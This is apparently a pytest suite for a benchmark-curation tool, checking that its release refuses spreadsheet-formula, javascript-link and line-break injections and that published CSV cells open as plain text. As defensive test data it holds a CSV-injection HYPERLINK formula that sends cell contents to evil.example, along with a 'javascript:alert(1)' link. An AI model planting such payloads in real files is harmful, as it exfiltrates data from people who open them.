"""A release carries plain text only, and the grading harness reads exactly what was published (issue 27).

Metadata stored before ingest refused it (a name over several lines, a formula, a javascript: link) keeps its
competition out of the release, each named; a text a spreadsheet would run as a formula keeps its row out. Every
cell of tasks/<Language>.csv then reads back the same with pandas (as enaix/ml2b reads it) and the csv module as in
the parquet configs, and LibreOffice, when installed, opens every cell as text.
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from curation.cli import app
from curation.records import FinalText, IngestedCompetition
from curation.release.harness import HARNESS_COLUMNS
from curation.release.rows import RECORD_COLUMNS
from curation.store import Store
from tests.release.seeding import competition, seed_store

DIST = "dist/ml2b"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click for the data")'
TEXT_COLUMNS = tuple(dict.fromkeys((*HARNESS_COLUMNS, *RECORD_COLUMNS)))
# Plain texts a spreadsheet might be tempted by: a Markdown list, a line starting with '+' after the first, a
# formula-looking line that is not the first, a leading space.
ODD_BUT_PLAIN = {
    "data_card": "- train.csv: id, target\n- test.csv: id\n+ sample_submission.csv",
    "description": "Predict the target.\n=SUM(A1:A3) is not a formula here\n@mention",
    "domain": " finance",
}


def curate(*args: str):
    return CliRunner().invoke(app, list(args), env={"COLUMNS": "300"})


@pytest.fixture
def kazakh_project(project: Path, store: Store) -> Path:
    toml = project / "curate.toml"
    toml.write_text(toml.read_text(encoding="utf-8").replace(
        'languages = ["ar", "be", "zh", "en", "ru", "fr", "it", "ja", "kk", "pl", "ro", "es", "tr"]',
        'languages = ["en", "kk"]'), encoding="utf-8")
    seed_store(store, ["en", "kk"], ["house-prices", "spaceship", "titanic"])
    return project


def store_record(store: Store, slug: str, **changed) -> None:
    """A competition as an older curation stored it, before ingest refused such metadata."""
    store.save_ingested(IngestedCompetition(competition=competition(slug).model_copy(update=changed)))


def harness_rows(path: Path) -> tuple[list[dict], list[dict]]:
    """The rows as the harness reads them (pandas with its defaults, then to_dict('records')) and as csv does."""
    with path.open(encoding="utf-8", newline="") as handle:
        plain = list(csv.DictReader(handle))
    return pd.read_csv(path).to_dict("records"), plain


def test_stored_metadata_a_release_cannot_carry_keeps_its_competition_out(kazakh_project: Path, store: Store):
    store_record(store, "titanic", comp_name=FORMULA)
    store_record(store, "spaceship", competition_link="javascript:alert(1)",
                 comp_type="Playground\n---\npretty_name: hacked")

    refused = curate("publish", "--version", "1.0.0", "--to", DIST, "-v")

    assert refused.exit_code == 1, refused.output
    lines = refused.output.strip().splitlines()
    assert ("titanic/comp_name: starts with '=', so a spreadsheet opening the release's tasks CSV would run it as a "
            "formula; write plain text; fix it in its competition.yaml and run `curate ingest`") in lines
    assert ("spaceship/comp_type: has a line break or control character ('\\n'); write it on one line; fix it in its "
            "competition.yaml and run `curate ingest`") in lines
    assert any(line.startswith("spaceship/competition_link: is not an http(s) link (it starts with javascript)")
               for line in lines)
    assert lines[-1].startswith("refused: 3 problems above")
    assert not (kazakh_project / DIST).exists()

    partial = curate("publish", "--version", "1.0.0", "--to", DIST, "--allow-partial")

    assert partial.exit_code == 0, partial.output
    for language in ("English", "Kazakh"):
        pandas_rows, _ = harness_rows(kazakh_project / DIST / "tasks" / f"{language}.csv")
        assert [row["competition"] for row in pandas_rows] == ["house-prices"]
    text = "".join(path.read_text(encoding="utf-8") for path in (kazakh_project / DIST).rglob("*")
                   if path.is_file() and ".git" not in path.parts and path.suffix != ".parquet")
    assert "HYPERLINK" not in text and "javascript:" not in text and "hacked" not in text


def test_a_text_a_spreadsheet_would_run_keeps_its_row_out(kazakh_project: Path, store: Store):
    # An annotator's own version is text from outside, like the metadata.
    store.save_final_text(FinalText(competition="titanic", field="description", language="kk", text=FORMULA,
                                    provenance="native_fix", verdict="NO and NO"))

    refused = curate("publish", "--version", "1.0.0", "--to", DIST)

    assert refused.exit_code == 1, refused.output
    assert ("kk/titanic/description: starts with '=', so a spreadsheet opening tasks/Kazakh.csv would run it as a "
            "formula; correct it in the review sheet and run `curate merge --lang kk`") in refused.output.splitlines()
    assert curate("publish", "--version", "1.0.0", "--to", DIST, "--allow-partial").exit_code == 0
    kazakh, _ = harness_rows(kazakh_project / DIST / "tasks" / "Kazakh.csv")
    assert [row["competition"] for row in kazakh] == ["house-prices", "spaceship"]


def published_release(project: Path, store: Store) -> Path:
    for slug in ("house-prices", "spaceship", "titanic"):
        for name, text in ODD_BUT_PLAIN.items():
            store.save_final_text(FinalText(competition=slug, field=name, language="kk", text=text,
                                            provenance="native_fix", verdict="YES and NO"))
    result = curate("publish", "--version", "1.0.0", "--to", DIST)
    assert result.exit_code == 0, result.output
    return project / DIST


def test_every_cell_reads_back_as_published_with_pandas_and_csv(kazakh_project: Path, store: Store):
    release = published_release(kazakh_project, store)

    for code, language in (("en", "English"), ("kk", "Kazakh")):
        published = pq.read_table(release / code / "test-00000-of-00001.parquet").to_pylist()
        pandas_rows, plain_rows = harness_rows(release / "tasks" / f"{language}.csv")
        for row, by_pandas, by_csv in zip(published, pandas_rows, plain_rows, strict=True):
            row = {**row, "comp-id": row["competition"]}
            for column in TEXT_COLUMNS:
                assert by_pandas[column] == row[column], (language, column)
                assert by_csv[column] == row[column], (language, column)
    kazakh = pd.read_csv(release / "tasks" / "Kazakh.csv").set_index("comp-id")
    assert kazakh.loc["titanic", "data_card"] == ODD_BUT_PLAIN["data_card"]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_opens_every_cell_as_text(kazakh_project: Path, store: Store, tmp_path: Path):
    release = published_release(kazakh_project, store)
    probe = tmp_path / "probe.csv"  # the reader itself: it does run a formula in a cell like the one ingest refuses
    probe.write_text(f'"comp_name"\n"{FORMULA.replace(chr(34), chr(34) * 2)}"\n', encoding="utf-8")

    opened = {}
    for path in [probe, *sorted((release / "tasks").glob("*.csv"))]:
        subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
                        "--convert-to", "fods", "--outdir", str(tmp_path), str(path)],
                       check=True, capture_output=True, timeout=300, env={**os.environ, "HOME": str(tmp_path)})
        opened[path.name] = (tmp_path / f"{path.stem}.fods").read_text(encoding="utf-8")

    assert "table:formula=" in opened.pop("probe.csv")
    assert sorted(opened) == ["English.csv", "Kazakh.csv"]
    for name, document in opened.items():
        assert "table:formula=" not in document, name
    assert "- train.csv: id, target" in opened["Kazakh.csv"]
